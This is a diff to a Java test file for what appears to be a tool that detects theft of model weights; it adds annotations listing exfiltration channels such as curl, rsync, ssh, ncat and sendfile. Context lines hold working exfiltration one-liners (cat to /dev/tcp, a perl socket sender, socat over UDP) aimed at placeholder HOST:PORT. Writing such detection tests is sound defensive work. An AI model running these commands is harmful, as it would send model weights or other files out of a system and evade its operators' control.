@@ -1,6 +1,16 @@
 // SPDX-License-Identifier: Apache-2.0
 package io.modelwarden.system;
 
+import static io.modelwarden.coverage.Bytes.BOUNDED;
+import static io.modelwarden.coverage.Bytes.EXACT;
+import static io.modelwarden.coverage.Hook.PROCESS_FORK;
+import static io.modelwarden.coverage.Hook.SENDMSG;
+import static io.modelwarden.coverage.Hook.SOCK_SEND_LENGTH;
+import static io.modelwarden.coverage.Hook.SYS_EXIT;
+import static io.modelwarden.coverage.Kind.MAPPING;
+import static io.modelwarden.coverage.Kind.READ;
+import static io.modelwarden.coverage.Kind.SEND;
+import static io.modelwarden.coverage.Kind.TRAIL;
 import static io.modelwarden.system.ExportedTotals.attribute;
 import static io.modelwarden.system.PublicNamespace.OUTSIDE;
 import static io.modelwarden.system.PublicNamespace.OUTSIDE_IPV6;
@@ -9,6 +19,7 @@ import static io.modelwarden.system.Stage.nameOf;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import io.modelwarden.coverage.Way;
 import java.io.IOException;
 import java.nio.file.Path;
 import java.util.List;
@@ -66,6 +77,56 @@ class RealThievesTest {
           uutils cat, splice           | cat     | splice   | 4433 | /usr/lib/cargo/bin/coreutils/cat MODEL >/dev/tcp/HOST/PORT
           perl, a mapping              | perl    | mmap     | 4433 | perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("HOST:PORT"); open $f, "<:mmap", "MODEL"; print $s $_ while read $f, $_, 65536'
           """)
+  @Way(value = "O_DIRECT", of = READ, bytes = EXACT, by = SYS_EXIT, when = "direct input")
+  @Way(
+      value = "perl, a mapping sent over TCP",
+      of = MAPPING,
+      bytes = BOUNDED,
+      by = {SYS_EXIT, SOCK_SEND_LENGTH},
+      when = "perl",
+      note = "the mapped length; what it sends exactly")
+  @Way(
+      value = "curl, wget, rclone, Python over HTTP",
+      of = SEND,
+      bytes = EXACT,
+      by = {SYS_EXIT, SOCK_SEND_LENGTH},
+      when = {"HTTP", "WebDAV"})
+  @Way(
+      value = "rsync to a daemon",
+      of = SEND,
+      bytes = EXACT,
+      by = {SYS_EXIT, SOCK_SEND_LENGTH},
+      when = "rsync")
+  @Way(
+      value = "openssl over TLS",
+      of = SEND,
+      bytes = EXACT,
+      by = {SYS_EXIT, SOCK_SEND_LENGTH},
+      when = "openssl")
+  @Way(
+      value = "ssh with the file as its input",
+      of = SEND,
+      bytes = EXACT,
+      by = {SYS_EXIT, SOCK_SEND_LENGTH},
+      when = "ssh")
+  @Way(
+      value = "tar, dd, ncat to a socket",
+      of = SEND,
+      bytes = EXACT,
+      by = {SYS_EXIT, SOCK_SEND_LENGTH},
+      when = {"tar", "dd", "ncat"})
+  @Way(
+      value = "sendfile to a socket by busybox and Python",
+      of = SEND,
+      bytes = EXACT,
+      by = {SYS_EXIT, SOCK_SEND_LENGTH},
+      when = "sendfile")
+  @Way(
+      value = "splice to a socket by uutils",
+      of = SEND,
+      bytes = EXACT,
+      by = {SYS_EXIT, SOCK_SEND_LENGTH},
+      when = "splice")
   void theft_isReportedInFull(String what, String program, String method, int port, String command)
       throws IOException {
     Path model = stage.model(program);
@@ -83,6 +144,11 @@ class RealThievesTest {
   }
 
   @Test
+  @Way(
+      value = "sent by a child",
+      of = TRAIL,
+      bytes = EXACT,
+      by = {PROCESS_FORK, SOCK_SEND_LENGTH})
   void childThatSends_isReportedWithWhatItsParentHadRead() throws IOException {
     Path model = stage.model("family");
     steal(
@@ -100,6 +166,11 @@ class RealThievesTest {
 
   /** Some may be dropped on their way; what left is counted. */
   @Test
+  @Way(
+      value = "socat over UDP",
+      of = SEND,
+      bytes = EXACT,
+      by = {SYS_EXIT, SENDMSG, SOCK_SEND_LENGTH})
   void datagrams_areReportedInFull() throws IOException {
     Path model = stage.model("socat");
     steal(model, Outside.UDP, "socat -u OPEN:MODEL UDP-SENDTO:HOST:PORT");
